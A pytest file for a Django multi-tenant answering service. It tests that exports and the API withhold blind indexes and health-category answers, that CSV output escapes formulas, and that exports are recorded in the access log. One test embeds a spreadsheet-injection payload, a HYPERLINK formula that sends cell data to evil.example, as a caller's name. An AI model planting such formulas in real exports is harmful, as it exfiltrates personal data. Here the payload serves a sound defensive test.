"""Exports and derived columns, from the side of the person who must not see (issue 13, leaks 1
and 2): an agent who would join three companies' exports on their blind indexes, an agent whose
DPA does not grant health reading a message's answers, a spreadsheet that would run a caller's
name as a formula.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.contrib import admin as django_admin
from django.utils.text import capfirst
from django_tenants.utils import tenant_context

from answering.models import Call, Line, Message
from audit.models import AccessLogEntry
from crm.blind_index import blind_index, name_normalise
from crm.models import Contact
from tenants.categories import personal_fields

pytestmark = pytest.mark.django_db

CONTACTS = "/admin/crm/contact/"
CALLS = "/admin/answering/call/"
MESSAGES = "/admin/answering/message/"
# The derived columns of the models an agent exports: written out, so the test does not trust the
# declarations it checks.
DERIVED = {"phone_bidx", "email_bidx", "name_bidx", "number_bidx", "caller_pseudonym"}


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff"))))


def _export(client, url: str, ids) -> list[list[str]]:
    return _rows(client.post(url, {"action": "export_csv", "_selected_action": list(ids)}))


def _indexes(contact: Contact) -> set[str]:
    values = {
        blind_index(contact.phone_number),
        blind_index(contact.email.lower()),
        blind_index(name_normalise(contact.name)),
    }
    return values - {""}


# ---- leak 1: blind indexes never leave the database ------------------------------------------


def test_an_agent_exporting_three_companies_gets_no_index_to_join_them_on(admin_for, agent1, acme, globex, initech):
    indexes, bodies = set(), []
    for company in (acme, globex, initech):
        with tenant_context(company):
            contacts = list(Contact.objects.all())
            assert contacts
            indexes |= {i for c in contacts for i in _indexes(c)}
        rows = _export(admin_for(agent1, company.schema_name), CONTACTS, [c.pk for c in contacts])
        assert len(rows) > 1, f"{company.schema_name}: the export must hold rows, or the test is vacuous"
        header = " ".join(rows[0]).lower()
        assert "bidx" not in header, rows[0]
        assert "index" not in header, rows[0]
        bodies.append("\n".join(",".join(row) for row in rows))
    body = "\n".join(bodies)
    leaked = sorted(i for i in indexes if i in body)
    assert leaked == [], "a blind index left the database in an export"


def test_a_blind_index_in_the_url_filters_nothing(admin_for, agent1, acme):
    with tenant_context(acme):
        contact = next(c for c in Contact.objects.filter(restricted=False) if c.phone_number)
        digest = contact.phone_bidx
    client = admin_for(agent1, "acme")
    for url, lookup in (
        (CONTACTS, "phone_bidx"),
        (CONTACTS, "phone_bidx__startswith"),
        (CONTACTS, "email_bidx"),
        (CALLS, "contact__phone_bidx"),
        (CALLS, "caller_pseudonym"),
    ):
        response = client.get(url, {lookup: digest})
        assert response.status_code == 400, f"{url}?{lookup}= answered {response.status_code}: it is an oracle"
        assert digest.encode() not in response.content


def test_the_changelist_and_the_change_form_show_no_derived_column(admin_for, agent1, acme):
    with tenant_context(acme):
        contact = next(c for c in Contact.objects.filter(restricted=False) if c.phone_number)
        call = Call.objects.exclude(caller_pseudonym="").first()
    client = admin_for(agent1, "acme")
    pages = [
        client.get(CONTACTS),
        client.get(f"{CONTACTS}{contact.pk}/change/"),
        client.get(CALLS),
        client.get(f"{CALLS}{call.pk}/change/"),
    ]
    body = "\n".join(page.content.decode() for page in pages)
    assert all(page.status_code == 200 for page in pages)
    for value in (*_indexes(contact), call.caller_pseudonym):
        assert value not in body


def test_an_index_the_admin_never_loads_still_follows_an_edit(admin_for, agent1, acme):
    with tenant_context(acme):
        contact = Contact.objects.create(name="Ado Kask", phone_number="+37255500011", email="ado@example.ee")
    response = admin_for(agent1, "acme").post(
        f"{CONTACTS}{contact.pk}/change/",
        {"name": "Ado Kask", "phone_number": "+37255500012", "email": "ado@example.ee", "address": "", "notes": ""},
    )
    assert response.status_code == 302, response.content.decode()[:2000]
    with tenant_context(acme):
        contact.refresh_from_db()
        assert contact.phone_number == "+37255500012"
        assert contact.phone_bidx == blind_index("+37255500012")
        assert contact.email_bidx == blind_index("ado@example.ee")


def test_the_api_sends_and_documents_no_derived_field(client_for, acme, acme_admin):
    client = client_for("acme.localhost", acme_admin)
    contacts = client.get("/api/v1/contacts/").json()["results"]
    assert contacts
    assert not {key for row in contacts for key in row} & DERIVED
    one = client.get(f"/api/v1/contacts/{contacts[0]['id']}/").json()
    assert not set(one) & DERIVED
    schema = client.get("/api/v1/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json").content.decode()
    assert "Contact" in schema
    for name in DERIVED:
        assert name not in schema, f"the API schema documents {name}"


def test_a_gated_admin_that_names_a_derived_field_is_refused_at_start_up():
    from gates.admin import GatedModelAdmin

    for option in ("list_display", "fields", "readonly_fields", "search_fields", "list_filter", "ordering"):

        class Leaky(GatedModelAdmin):
            pass

        setattr(Leaky, option, ["phone_bidx"])
        with pytest.raises(TypeError, match="phone_bidx"):
            Leaky(Contact, django_admin.site)


def test_an_api_view_that_serialises_a_derived_field_is_refused_at_import():
    from rest_framework import serializers

    from api.base import TenantAPIView

    class LeakySerializer(serializers.ModelSerializer):
        class Meta:
            model = Contact
            fields = ["id", "name", "phone_bidx"]

    class RenamedSerializer(serializers.ModelSerializer):
        lookup = serializers.CharField(source="email_bidx")

        class Meta:
            model = Contact
            fields = ["id", "lookup"]

    class AllSerializer(serializers.ModelSerializer):
        class Meta:
            model = Contact
            fields = "__all__"

    class NestingSerializer(serializers.ModelSerializer):
        contact = AllSerializer()

        class Meta:
            model = Call
            fields = ["id", "contact"]

    for serializer in (LeakySerializer, RenamedSerializer, AllSerializer, NestingSerializer):
        with pytest.raises(TypeError, match="derived"):
            type("LeakyApi", (TenantAPIView,), {"api_scope": "contacts", "serializer_class": serializer})


# ---- leak 2: each answer is gated on its own category ----------------------------------------

HEALTH_ANSWER = "zqhealthanswer-chest-pain"
GRANTED_ANSWER = "zqgrantedanswer-after-five"


def _message_with_answers(company) -> Message:
    with tenant_context(company):
        return Message.objects.create(
            line=Line.objects.get(phone_number="+3726001001"),
            caller_name="Mari Tamm",
            body="Please call back",
            answers=json.dumps(
                {
                    "symptoms": {"label": "Symptoms", "category": "user.health", "value": HEALTH_ANSWER},
                    "call_back": {"label": "Best time", "category": "user.content.private", "value": GRANTED_ANSWER},
                }
            ),
        )


def test_an_agent_without_health_gets_no_health_answer_in_the_export(admin_for, agent1, acme):
    # acme's DPA grants agents content but not health (demo/world.py).
    message = _message_with_answers(acme)
    rows = _export(admin_for(agent1, "acme"), MESSAGES, [message.pk])
    body = "\n".join(",".join(row) for row in rows)
    assert HEALTH_ANSWER not in body, "a user.health answer reached an agent whose DPA does not grant health"
    assert "Symptoms" not in body  # not even that the question was answered
    assert GRANTED_ANSWER in body, "a granted answer must be exported, or the test is vacuous"


def test_the_message_form_shows_the_answers_the_export_does(admin_for, agent1, acme):
    message = _message_with_answers(acme)
    page = admin_for(agent1, "acme").get(f"{MESSAGES}{message.pk}/change/").content.decode()
    assert HEALTH_ANSWER not in page
    assert "Symptoms" not in page
    assert GRANTED_ANSWER in page


def test_an_answer_the_dpa_grants_nobody_reaches_no_role(admin_for, acme):
    from tenants.models import User

    message = _message_with_answers(acme)
    for username in ("supervisor", "dpo"):
        rows = _export(admin_for(User.objects.get(username=username), "acme"), MESSAGES, [message.pk])
        assert HEALTH_ANSWER not in "\n".join(",".join(row) for row in rows), username


# ---- one writer, which escapes formulas ------------------------------------------------------


def test_a_formula_in_a_callers_name_exports_as_text(admin_for, agent1, acme):
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"Call back")'
    with tenant_context(acme):
        contact = Contact.objects.create(name=formula, phone_number="+37255500077", email="@SUM(1+1)")
    rows = _export(admin_for(agent1, "acme"), CONTACTS, [contact.pk])
    header, row = rows[0], rows[1]
    assert row[header.index("Name")] == "'" + formula
    assert row[header.index("Email")] == "'@SUM(1+1)"
    assert row[header.index("Phone number")] == "+37255500077"  # a number stays a number


def test_no_csv_is_written_but_through_the_one_writer():
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    writers = sorted(
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.relative_to(root).parts[0] not in (".venv", ".vastaja", "node_modules", "tests")
        and "/tests/" not in str(path.relative_to(root))
        and "csv.writer(" in path.read_text()
    )
    assert writers == ["gates/exports.py"]


# ---- what the export returns is in the access log --------------------------------------------


def test_every_personal_field_the_export_returns_is_in_the_access_log(admin_for, agent1, acme):
    message = _message_with_answers(acme)
    with tenant_context(acme):
        contacts = list(Contact.objects.filter(restricted=False))
        before = AccessLogEntry.objects.count()
    client = admin_for(agent1, "acme")
    exported = {
        Contact: _export(client, CONTACTS, [c.pk for c in contacts]),
        Message: _export(client, MESSAGES, [message.pk]),
    }
    with tenant_context(acme):
        entries = list(AccessLogEntry.objects.order_by("pk")[before:])
    assert [e.channel for e in entries] == ["export", "export"]
    for entry, (model, rows) in zip(entries, exported.items(), strict=True):
        assert entry.object_type == model._meta.label
        assert entry.user == agent1
        labels = {capfirst(str(model._meta.get_field(name).verbose_name)): name for name in personal_fields(model)}
        returned = {labels[label] for label in rows[0] if label in labels}
        assert returned
        assert set(entry.fields) == returned
        assert sorted(entry.object_ids) == sorted(row[rows[0].index("ID")] for row in rows[1:])
    assert "health_notes" not in entries[0].fields
    assert "answers" in entries[1].fields
